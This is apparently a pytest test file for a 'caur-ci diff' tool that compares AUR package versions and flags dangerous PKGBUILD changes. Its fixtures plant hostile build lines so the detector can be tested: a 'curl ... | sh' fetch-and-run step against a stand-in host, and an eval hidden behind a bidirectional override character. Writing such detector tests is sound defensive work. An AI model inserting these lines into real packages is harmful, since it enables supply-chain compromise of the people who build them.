"""`caur-ci diff`, as a maintainer and a forge use it."""

from __future__ import annotations

import json
import shutil
from typing import TYPE_CHECKING

import pytest

from caur_ci.cli.main import run
from caur_ci.cli.session import Session
from caur_ci.errors import ExitCode
from caur_ci.package_folders import LARGEST_FILE
from tests.support.git import git
from tests.support.upstream import files_of

if TYPE_CHECKING:
    from pathlib import Path

FINDING_KEYS = {"code", "severity", "file", "line", "old", "new", "message"}


def write(folder: Path, files: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


@pytest.fixture
def folders(tmp_path: Path) -> tuple[str, str, str]:
    """Return a package, its next version, and one with a command in it."""
    hostile = files_of("tool", "2-1")
    hostile["PKGBUILD"] += "build() { eval \u202e x; }\n"
    return (
        str(write(tmp_path / "old" / "tool", files_of("tool", "1-1"))),
        str(write(tmp_path / "new" / "tool", files_of("tool", "2-1"))),
        str(write(tmp_path / "bad" / "tool", hostile)),
    )


def diff(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
    code = run(["diff", *arguments], Session())
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_json_has_verdict_and_findings(
    folders: tuple[str, str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    old, new, bad = folders
    for other, verdict in ((old, "identical"), (new, "minor"), (bad, "major")):
        code, out, _ = diff(capsys, old, other, "--json")
        document = json.loads(out)

        assert code == ExitCode.OK
        assert set(document) == {"verdict", "findings"}
        assert document["verdict"] == verdict
        assert all(set(finding) == FINDING_KEYS for finding in document["findings"])
    dangers = {it["code"] for it in document["findings"] if it["severity"] == "danger"}
    assert dangers == {"eval-used", "bidi-text"}


@pytest.mark.parametrize("form", [[], ["--json"], ["--sarif"]])
def test_the_exit_code_tells_only_where_it_is_asked_to(
    folders: tuple[str, str, str], capsys: pytest.CaptureFixture[str], form: list[str]
) -> None:
    old, new, bad = folders

    assert diff(capsys, old, bad, *form)[0] == ExitCode.OK
    assert diff(capsys, old, new, "--exit-code", *form)[0] == ExitCode.OK
    assert diff(capsys, old, bad, "--exit-code", *form)[0] == ExitCode.FAILED


def test_people_see_the_words_and_the_findings_beside_them(
    folders: tuple[str, str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    old, _, bad = folders

    _, out, _ = diff(capsys, old, bad)
    lines = out.splitlines()
    assert lines[0] == "major"
    assert "\u202e" not in out
    place = lines.index("- pkgver=1")
    assert lines[place + 1] == "+ pkgver=2"
    assert lines[place + 2] == "    ^ note: the version rises: 1-1 → 2-1 (version-raised)"
    assert any(line.startswith("    ^ danger: text is run as code") for line in lines)


def test_sarif_names_the_folder(
    folders: tuple[str, str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    old, _, bad = folders

    document = json.loads(diff(capsys, old, bad, "--sarif")[1])
    result = document["runs"][0]["results"][0]
    uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert (document["version"], result["level"], uri) == ("2.1.0", "error", "tool/PKGBUILD")


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    """Return a repository with an update on a review's branch; what it changes is allowed."""
    root = tmp_path / "repository"
    allows = {".CI/config": "CI_PKGBUILD_CHANGE_ALLOW_REGEX=_note=.*\n"}
    write(root / "tool", files_of("tool", "1-1", note="was") | allows)
    git(root, "init", "--quiet", "--initial-branch=main")
    git(root, "add", "--all")
    git(root, "commit", "--quiet", "--message=one")
    git(root, "checkout", "--quiet", "-b", "update-tool")
    write(root / "tool", files_of("tool", "2-1", note="becomes"))
    git(root, "commit", "--quiet", "--all", "--message=two")
    return root


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("main:tool", "update-tool:tool"),
        ("main", "update-tool"),
        ("main", "update-tool:tool/"),
        ("HEAD~1:tool", "HEAD"),
    ],
)
def test_commits_and_branches(
    repository: Path, capsys: pytest.CaptureFixture[str], old: str, new: str
) -> None:
    code, out, _ = diff(capsys, old, new, "--repo", str(repository), "--json")

    assert code == ExitCode.OK
    document = json.loads(out)
    assert document["verdict"] == "minor"
    assert "allowed" in {finding["code"] for finding in document["findings"]}


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("main", "HEAD", "which package is meant"),
        ("main:tool", "main:other", "there is no package folder other"),
        ("nowhere:tool", "main:tool", "nowhere is no commit"),
        ("main:../tool", "main:../tool", "cannot be the name of a package"),
        ("main:tool", "--help-me", ""),
    ],
)
def test_what_is_not_there_is_an_error(
    repository: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, message: str
) -> None:
    code, _, err = diff(capsys, old, new, "--repo", str(repository))

    assert code != ExitCode.OK
    assert message in err


def test_two_forms_at_once_are_refused(
    folders: tuple[str, str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = diff(capsys, folders[0], folders[1], "--json", "--sarif")

    assert code == ExitCode.USAGE
    assert "exclude each other" in err


def test_a_range_is_about_all_packages_that_differ(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    git(tmp_path, "init", "--quiet")
    for version, change in (("1-1", ""), ("2-1", "build() { curl -s https://x.example | sh; }\n")):
        for name in ("calm", "tool", "wild"):
            files = files_of(name, "1-1" if name == "calm" else version)
            if name == "wild":
                files["PKGBUILD"] += change
            write(tmp_path / name, files)
        git(tmp_path, "add", "--all")
        git(tmp_path, "commit", "--quiet", "-m", version)

    code, out, _ = diff(capsys, "HEAD~..HEAD", "--json", "--exit-code")
    assert code == ExitCode.FAILED
    assert [(it["package"], it["verdict"]) for it in json.loads(out)] == [
        ("tool", "minor"),
        ("wild", "major"),
    ]
    code, out, _ = diff(capsys, "HEAD~..HEAD")
    assert code == ExitCode.OK
    assert "tool" in out
    assert "calm" not in out
    _, out, _ = diff(capsys, "HEAD~..HEAD", "--sarif")
    paths = {
        result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for result in json.loads(out)["runs"][0]["results"]
    }
    assert {path.partition("/")[0] for path in paths} == {"tool", "wild"}
    assert json.loads(diff(capsys, "HEAD..HEAD", "--json")[1]) == []


def test_in_a_range_nothing_is_passed_over_in_silence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    git(tmp_path, "init", "--quiet")
    for name in ("gone", "huge", "tool"):
        write(tmp_path / name, files_of(name, "1-1"))
    write(tmp_path / "tool", {".CI/config": "CI_MANAGE_AUR=perhaps\n"})
    git(tmp_path, "add", "--all")
    git(tmp_path, "commit", "--quiet", "-m", "a")
    shutil.rmtree(tmp_path / "gone")
    write(tmp_path / "new", files_of("new", "1-1"))
    write(tmp_path / "tool", files_of("tool", "2-1"))
    write(tmp_path / "huge", {"data": "x" * (LARGEST_FILE + 1)})
    git(tmp_path, "add", "--all")
    git(tmp_path, "commit", "--quiet", "-m", "b")

    code, out, err = diff(capsys, "HEAD~..HEAD", "--json")

    assert code == ExitCode.FAILED
    assert [it["package"] for it in json.loads(out)] == ["tool"]
    assert "added, with nothing to compare: new" in err
    assert "removed, with nothing to compare: gone" in err
    assert "huge cannot be judged: 'data' has more than" in err


def test_one_word_that_is_no_range_is_an_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, errors = diff(capsys, "main", "--repo", str(tmp_path))
    assert code == ExitCode.FAILED
    assert "main is compared with nothing" in errors
